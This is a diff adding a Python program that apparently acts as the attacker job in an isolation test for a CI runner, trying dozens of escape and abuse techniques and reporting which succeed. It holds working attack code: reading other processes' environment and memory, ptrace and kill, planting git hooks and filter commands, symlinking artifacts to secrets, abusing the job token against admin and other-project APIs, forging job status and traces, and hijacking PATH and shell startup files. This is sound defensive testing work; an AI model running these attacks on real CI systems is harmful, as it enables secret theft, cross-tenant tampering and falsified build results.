@@ -1,0 +1,515 @@
+"""The program of a hostile job: it tries every attack and reports what worked. Run inside a job with `targets.json`.
+
+One line a try: `ATTACK` and base64 of JSON with the attack's name, the way, and what came of it: what was read, or that
+it was done; or the error. In base64 so that no masking hides what was seen. What it attacks is only what the targets
+name. `gentle` is for a job that nothing holds back: it shows that it could, and harms nothing that the test needs.
+"""
+
+import base64
+import contextlib
+import ctypes
+import json
+import os
+import signal
+import socket
+import subprocess
+import sys
+import urllib.error
+import urllib.request
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+PTRACE_ATTACH, PTRACE_DETACH = 16, 17
+MOST_BYTES = 4096
+MADE = "made-by-another-job"
+"""What is left in a folder that can be written to."""
+SECONDS = 10
+Way = tuple[str, Callable[[], bytes | bool]]
+"""What it is called, and what to do: bytes that were read, or whether it was done; nothing, False and OSError: not."""
+T = dict[str, Any]
+
+
+def read(path: str) -> Way:
+    """Of a file, or the names in a folder."""
+
+    def act() -> bytes:
+        if os.path.isdir(path):
+            return "\n".join(os.listdir(path)).encode()
+        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
+        try:
+            return os.read(descriptor, MOST_BYTES)
+        finally:
+            os.close(descriptor)
+
+    return f"read {path}", act
+
+
+def change(path: str) -> Way:
+    """Open a file for writing, and write nothing: whoever gets that far can. Make a file in a folder."""
+
+    def act() -> bool:
+        if os.path.isdir(path):
+            os.close(os.open(f"{path}/{MADE}", os.O_WRONLY | os.O_CREAT))
+        else:
+            os.close(os.open(path, os.O_WRONLY | os.O_APPEND | os.O_NONBLOCK))
+        return True
+
+    return f"change {path}", act
+
+
+def link(path: str) -> Way:
+    """Take a second name of a file, and read by that."""
+
+    def act() -> bytes:
+        own = f"taken-{os.getpid()}"
+        os.link(path, own)
+        try:
+            return Path(own).read_bytes()[:MOST_BYTES]
+        finally:
+            os.unlink(own)
+
+    return f"link {path}", act
+
+
+def unmounted(path: str) -> Way:
+    """Look under what is mounted over a file, as root of a user namespace of its own."""
+    script = 'for m in $(cut -d" " -f5 /proc/self/mountinfo | sort -r); do umount -l "$m" 2>/dev/null; done; cat "$1"'
+
+    def act() -> bytes:
+        words = ["unshare", "--user", "--map-root-user", "--mount", "sh", "-c", script, "sh", path]
+        return subprocess.run(words, capture_output=True, timeout=SECONDS, check=False).stdout[:MOST_BYTES]
+
+    return f"unmount what hides {path}", act
+
+
+def files(*paths: str) -> Iterator[Way]:
+    for path in paths:
+        yield read(path)
+        yield change(path)
+
+
+def send(pid: int, number: int) -> Way:
+    def act() -> bool:
+        os.kill(pid, number)
+        return True
+
+    return f"signal {number} to {pid}", act
+
+
+def trace(pid: int) -> Way:
+    def act() -> bool:
+        libc = ctypes.CDLL(None, use_errno=True)
+        if libc.ptrace(PTRACE_ATTACH, pid, None, None) != 0:
+            raise OSError(ctypes.get_errno(), "ptrace")
+        with contextlib.suppress(ChildProcessError):
+            os.waitpid(pid, 0x40000000)
+        libc.ptrace(PTRACE_DETACH, pid, None, None)
+        return True
+
+    return f"trace {pid}", act
+
+
+def memory(pid: int) -> Way:
+    def act() -> bool:
+        with open(f"/proc/{pid}/mem", "rb"):
+            return True
+
+    return f"memory of {pid}", act
+
+
+def process(pid: int, targets: T, *, is_needed: bool) -> Iterator[Way]:
+    """Everything that may be done to a process; one that the test needs is only looked at where nothing protects it."""
+    yield read(f"/proc/{pid}/environ")
+    yield memory(pid)
+    for name in ("root", "cwd", "fd"):
+        yield f"{name} of {pid}", lambda name=name: "\n".join(os.listdir(f"/proc/{pid}/{name}")).encode()  # type: ignore[misc]
+    if is_needed and targets["gentle"]:
+        yield send(pid, 0)
+        return
+    yield trace(pid)
+    yield send(pid, signal.SIGSTOP if is_needed else signal.SIGTERM)
+    yield send(pid, signal.SIGKILL)
+
+
+def connect(address: str, said: bytes = b"") -> Way:
+    def act() -> bytes | bool:
+        with socket.socket(socket.AF_UNIX) as caller:
+            caller.settimeout(SECONDS)
+            caller.connect(address)
+            if not said:
+                return True
+            caller.sendall(said)
+            return caller.recv(MOST_BYTES)
+
+    return f"connect to {address!r}", act
+
+
+def segment(key: int) -> Way:
+    def act() -> bytes:
+        libc = ctypes.CDLL(None, use_errno=True)
+        libc.shmat.restype = ctypes.c_void_p
+        found = libc.shmget(key, 0, 0)
+        address = libc.shmat(found, None, 0o10000) if found >= 0 else None
+        if address is None or address == ctypes.c_void_p(-1).value:
+            raise OSError(ctypes.get_errno(), "System V shared memory")
+        return ctypes.string_at(address, 64).rstrip(b"\0")
+
+    return f"System V segment {key}", act
+
+
+def call(targets: T, method: str, path: str, body: bytes | None = None, **headers: str) -> Way:
+    """An HTTP call of the cell; done where it is answered with success."""
+
+    def act() -> bytes:
+        named = {name.replace("_", "-"): value for name, value in headers.items()}
+        request = urllib.request.Request(targets["cell"]["url"] + path, body, named, method=method)
+        try:
+            with urllib.request.urlopen(request, timeout=SECONDS) as answer:
+                return b"%d " % answer.status + bytes(answer.read(MOST_BYTES))
+        except urllib.error.HTTPError as error:
+            raise OSError(error.code, f"{error.code} {error.reason}") from None
+
+    return f"{method} {path} with {' '.join(headers)}", act
+
+
+def neighbour_files(targets: T) -> Iterator[Way]:
+    other = targets["neighbour"]
+    folders = os.path.dirname(other["work"]), os.path.dirname(other["file_variable"]), other["temporary"]
+    yield from files(other["work"], other["file_variable"], *folders)
+    yield link(other["work"])
+    yield unmounted(other["work"])
+
+
+def neighbour_processes(targets: T) -> Iterator[Way]:
+    for pid in targets["neighbour"]["pids"]:
+        yield from process(pid, targets, is_needed=True)
+    yield from process(targets["neighbour"]["helper"], targets, is_needed=False)
+
+
+def neighbour_command_lines(targets: T) -> Iterator[Way]:
+    yield read(f"/proc/{targets['neighbour']['pids'][0]}/cmdline")
+
+
+def neighbour_private_memory(targets: T) -> Iterator[Way]:
+    other = targets["neighbour"]
+    yield from files(other["private_tmp"], other["private_shm"])
+    yield unmounted(other["private_tmp"])
+    yield segment(other["key"])
+
+
+def neighbour_open_memory(targets: T) -> Iterator[Way]:
+    other = targets["neighbour"]
+    yield read(other["open_tmp"])
+    yield read(other["open_shm"])
+    yield unmounted(other["open_tmp"])
+    yield segment(other["key"] + 1)
+
+
+def neighbour_cache(targets: T) -> Iterator[Way]:
+    yield from files(*targets["neighbour"]["caches"])
+
+
+def neighbour_network(targets: T) -> Iterator[Way]:
+    def act() -> bool:
+        with socket.create_connection(("127.0.0.1", targets["neighbour"]["port"]), SECONDS):
+            return True
+
+    yield "connect to its port", act
+    yield connect(f"\0{targets['neighbour']['abstract']}")
+
+
+def earlier_files(targets: T) -> Iterator[Way]:
+    yield from files(targets["earlier"]["work"], os.path.dirname(targets["earlier"]["work"]))
+
+
+def earlier_cache(targets: T) -> Iterator[Way]:
+    yield from files(*targets["earlier"]["caches"])
+
+
+def earlier_memory(targets: T) -> Iterator[Way]:
+    other = targets["earlier"]
+    for kind in ("private_tmp", "open_tmp", "private_shm", "open_shm"):
+        yield read(other[kind])
+    yield segment(other["key"])
+    yield segment(other["key"] + 1)
+
+
+def earlier_processes(targets: T) -> Iterator[Way]:
+    for pid in targets["earlier"]["pids"]:
+        yield from process(pid, targets, is_needed=False)
+
+
+def agent_files(targets: T) -> Iterator[Way]:
+    yield from files(*targets["agent"]["files"])
+    yield unmounted(targets["agent"]["files"][0])
+
+
+def agent_own_job(targets: T) -> Iterator[Way]:
+    """The job's folder is around the one with the files that its steps write to."""
+    own = Path(os.environ["REMUDA_OUTPUTS"]).parent.parent
+    for name in targets["agent"]["names"]:
+        yield from files(str(own / name))
+
+
+def agent_checkout(targets: T) -> Iterator[Way]:
+    """Leave programs in the repository for the git of the next checkout, which may have other rights."""
+    command = f"touch {targets['marks']}/by-git; true"
+    settings = {"core.fsmonitor": command, "core.sshCommand": command, "filter.evil.smudge": command}
+    settings |= {"filter.evil.clean": command, "core.hooksPath": f"{os.getcwd()}/.git/hooks", "diff.external": command}
+    with contextlib.suppress(OSError):
+        with open(".git/config", "a") as file:
+            for name, value in settings.items():
+                section, _, key = name.rpartition(".")
+                head = f'{section.partition(".")[0]} "evil"' if "." in section else section
+                file.write(f'[{head}]\n\t{key} = "{value}"\n')
+        Path(".git/info").mkdir(exist_ok=True)
+        Path(".git/info/attributes").write_text("* filter=evil\n")
+        Path(".git/hooks").mkdir(exist_ok=True)
+        for name in ("post-checkout", "reference-transaction", "post-index-change", "pre-auto-gc"):
+            Path(".git/hooks", name).write_text(f"#!/bin/sh\n{command}\n")
+            Path(".git/hooks", name).chmod(0o755)
+    return iter(())
+
+
+def swap(targets: T) -> None:
+    """Put a link to somebody else's folder in the place of the working directory."""
+    work = Path.cwd()
+    os.chdir("/")
+    work.rename(f"{work}.old")
+    work.symlink_to(targets["linked"])
+
+
+def agent_socket(targets: T) -> Iterator[Way]:
+    yield connect(targets["agent"]["socket"])
+
+
+def agent_processes(targets: T) -> Iterator[Way]:
+    for pid in targets["agent"]["pids"]:
+        yield from process(pid, targets, is_needed=True)
+    for pid in _ancestors():
+        with contextlib.suppress(OSError):
+            if os.stat(f"/proc/{pid}").st_uid != os.getuid():
+                yield from process(pid, targets, is_needed=True)
+
+
+def agent_descriptors(targets: T) -> Iterator[Way]:
+    """Found before this program opened any."""
+    own = (str(Path.cwd()), "/dev/null", "/dev/pts")
+    for number, place in sorted(INHERITED.items()):
+        if number > 2 and not place.startswith(own):
+            yield f"descriptor {number}", lambda place=place: place.encode()  # type: ignore[misc]
+
+
+def agent_archives(targets: T) -> Iterator[Way]:
+    """Leave links for the steps that upload artifacts and caches; what came of it is seen by whoever downloads them."""
+    Path("out").mkdir(exist_ok=True)
+    Path("out/file").symlink_to(targets["canary"])
+    Path("report.xml").symlink_to(targets["canary"])
+    Path("way").symlink_to(os.path.dirname(targets["canary"]))
+    return iter(())
+
+
+def manager_files(targets: T) -> Iterator[Way]:
+    yield from files(*targets["manager"]["files"])
+    yield unmounted(targets["manager"]["files"][0])
+
+
+def manager_socket(targets: T) -> Iterator[Way]:
+    command = b"status" if targets["gentle"] else b"drain"
+    yield connect(targets["manager"]["socket"], b'{"command": "%s"}\n' % command)
+
+
+def manager_process(targets: T) -> Iterator[Way]:
+    yield from process(targets["manager"]["pid"], targets, is_needed=True)
+
+
+def cell_files(targets: T) -> Iterator[Way]:
+    yield from files(*targets["cell"]["files"])
+    yield unmounted(targets["cell"]["files"][0])
+
+
+def cell_process(targets: T) -> Iterator[Way]:
+    yield from process(targets["cell"]["pid"], targets, is_needed=True)
+
+
+def control_calls(targets: T) -> Iterator[Way]:
+    """What the job's token is for: shows that the cell can be reached."""
+    yield call(targets, "GET", "/api/v4/job", JOB_TOKEN=os.environ["CI_JOB_TOKEN"])
+
+
+def cell_calls(targets: T) -> Iterator[Way]:
+    token, cell = os.environ["CI_JOB_TOKEN"], targets["cell"]
+    own, other, job = cell["own_project"], cell["other_project"], cell["other_job"]
+    looked_at = [
+        "/user",
+        "/users",
+        "/runners/all",
+        "/admin/ci/variables",
+        "/audit_events",
+        "/personal_access_tokens",
+        f"/projects/{own}/variables",
+        f"/projects/{own}/triggers",
+        f"/projects/{own}/audit_events",
+        f"/projects/{other}",
+        f"/projects/{other}/variables",
+        f"/projects/{other}/jobs",
+        f"/projects/{other}/jobs/{job}",
+        f"/projects/{other}/jobs/{job}/trace",
+        f"/projects/{other}/jobs/{job}/artifacts",
+        f"/projects/{other}/repository/branches",
+        f"/jobs/{job}/artifacts",
+    ]
+    headers = ("JOB_TOKEN", "PRIVATE_TOKEN", "Authorization")
+    for path in looked_at:
+        for name in headers:
+            word = f"Bearer {token}" if name == "Authorization" else token
+            yield call(targets, "GET", f"/api/v4{path}", None, **{name: word})
+    for path in (f"/policies/project/{own}", f"/jobs/{job}/steps", "/audit_events"):
+        yield call(targets, "GET", f"/api/remuda/v1{path}", JOB_TOKEN=token)
+    state = json.dumps({"token": token, "state": "success"}).encode()
+    kind = {"Content_Type": "application/json"}
+    yield call(targets, "PUT", f"/api/v4/jobs/{job}", state, JOB_TOKEN=token, **kind)
+    yield call(targets, "PATCH", f"/api/v4/jobs/{job}/trace", b"forged", JOB_TOKEN=token, Content_Range="0-5")
+    yield call(targets, "PUT", f"/api/remuda/v1/policies/project/{own}", b'{"document": {}}', JOB_TOKEN=token, **kind)
+    variable = b'{"key": "STOLEN", "value": "x"}'
+    yield call(targets, "POST", f"/api/v4/projects/{own}/variables", variable, JOB_TOKEN=token, **kind)
+    runner = b'{"runner_type": "instance_type"}'
+    yield call(targets, "POST", "/api/v4/user/runners", runner, JOB_TOKEN=token, **kind)
+    wanted = json.dumps({"token": token, "ref": "main"}).encode()
+    yield call(targets, "POST", f"/api/v4/projects/{other}/trigger/pipeline", wanted, **kind)
+
+
+def cell_repositories(targets: T) -> Iterator[Way]:
+    word = base64.b64encode(f"gitlab-ci-token:{os.environ['CI_JOB_TOKEN']}".encode()).decode()
+    for path, service in (("other_path", "upload-pack"), ("other_path", "receive-pack"), ("own_path", "receive-pack")):
+        address = f"/{targets['cell'][path]}.git/info/refs?service=git-{service}"
+        yield call(targets, "GET", address, Authorization=f"Basic {word}")
+
+
+def cell_old_token(targets: T) -> Iterator[Way]:
+    old, job = targets["earlier"]["token"], targets["earlier"]["job"]
+    yield call(targets, "GET", "/api/v4/job", JOB_TOKEN=old)
+    yield call(targets, "GET", f"/api/v4/jobs/{job}/artifacts", JOB_TOKEN=old)
+    yield call(targets, "PATCH", f"/api/v4/jobs/{job}/trace", b"forged", JOB_TOKEN=old, Content_Range="0-5")
+    word = base64.b64encode(f"gitlab-ci-token:{old}".encode()).decode()
+    address = f"/{targets['cell']['earlier_path']}.git/info/refs?service=git-upload-pack"
+    yield call(targets, "GET", address, Authorization=f"Basic {word}")
+
+
+def machine_engine(targets: T) -> Iterator[Way]:
+    yield connect(targets["engine"])
+
+
+def machine_root(targets: T) -> Iterator[Way]:
+    def act() -> bool:
+        said = subprocess.run([targets["as_root"], "-u"], capture_output=True, timeout=SECONDS, check=False).stdout
+        return said.strip() == b"0"
+
+    yield "run a set-user-ID program", act
+
+
+def policy_inserted(targets: T) -> Iterator[Way]:
+    """Prepare for the step that comes after the job; what it printed shows whether anything came of it."""
+    folder = Path.cwd() / "evil"
+    folder.mkdir(exist_ok=True)
+    for name in ("git", "env", "id", "sh"):
+        (folder / name).write_text("#!/bin/sh\necho INTERCEPTED\n")
+        (folder / name).chmod(0o755)
+    with contextlib.suppress(OSError):
+        for name in (".bashrc", ".profile", ".bash_profile"):
+            Path(os.environ["HOME"], name).write_text("echo INTERCEPTED\n")
+    exported = {"PATH": f"{folder}:{os.environ['PATH']}", "BASH_ENV": f"{folder}/sh", "ENV": f"{folder}/sh"}
+    with open(os.environ["REMUDA_EXPORTS"], "a") as file:
+        for name, value in exported.items():
+            file.write(json.dumps({"name": name, "value": value}) + "\n")
+    return iter(())
+
+
+def policy_results(targets: T) -> Iterator[Way]:
+    """Tell lies where steps tell outputs."""
+    with open(os.environ["REMUDA_OUTPUTS"], "a") as file:
+        for name, value in (("policy", {"enforced": ["lie"]}), ("status", "success"), ("origin", "inserted")):
+            file.write(json.dumps({"name": name, "value": value}) + "\n")
+    return iter(())
+
+
+ATTACKS = (
+    neighbour_files,
+    neighbour_command_lines,
+    neighbour_private_memory,
+    neighbour_open_memory,
+    neighbour_cache,
+    neighbour_network,
+    neighbour_processes,
+    earlier_files,
+    earlier_cache,
+    earlier_memory,
+    earlier_processes,
+    agent_files,
+    agent_own_job,
+    agent_checkout,
+    agent_socket,
+    agent_descriptors,
+    agent_archives,
+    manager_files,
+    manager_socket,
+    cell_files,
+    control_calls,
+    cell_calls,
+    cell_repositories,
+    cell_old_token,
+    machine_engine,
+    machine_root,
+    agent_processes,
+    manager_process,
+    cell_process,
+    policy_inserted,
+    policy_results,
+)
+OTHERS = {"swap": swap}
+"""What jobs and processes of their own do, by the word before the targets."""
+INHERITED: dict[int, str] = {}
+
+
+def _inherited() -> dict[int, str]:
+    found = {}
+    for name in os.listdir("/proc/self/fd"):
+        with contextlib.suppress(OSError):
+            found[int(name)] = os.readlink(f"/proc/self/fd/{name}")
+    return found
+
+
+def _ancestors() -> Iterator[int]:
+    pid = os.getppid()
+    while pid > 1:
+        yield pid
+        try:
+            stat = Path(f"/proc/{pid}/stat").read_text()
+        except OSError:
+            return
+        pid = int(stat[stat.rindex(")") + 2 :].split()[1])
+
+
+def main() -> None:
+    INHERITED.update(_inherited())
+    what, targets = sys.argv[-2], json.loads(Path(sys.argv[-1]).read_text())
+    if what in OTHERS:
+        OTHERS[what](targets)
+        return
+    for attack in ATTACKS:
+        for way, act in attack(targets):
+            told: dict[str, Any] = {"attack": attack.__name__.replace("_", ".", 1), "way": way}
+            try:
+                got = act()
+            except (OSError, subprocess.SubprocessError) as error:
+                told |= {"worked": False, "error": str(error)}
+            else:
+                told |= {"worked": bool(got), "read": got.decode(errors="replace") if isinstance(got, bytes) else ""}
+            sys.stdout.write(f"ATTACK {base64.b64encode(json.dumps(told).encode()).decode()}\n")
+            sys.stdout.flush()
+    sys.stdout.write("ATTACKS ENDED\n")
+
+
+if __name__ == "__main__":
+    main()
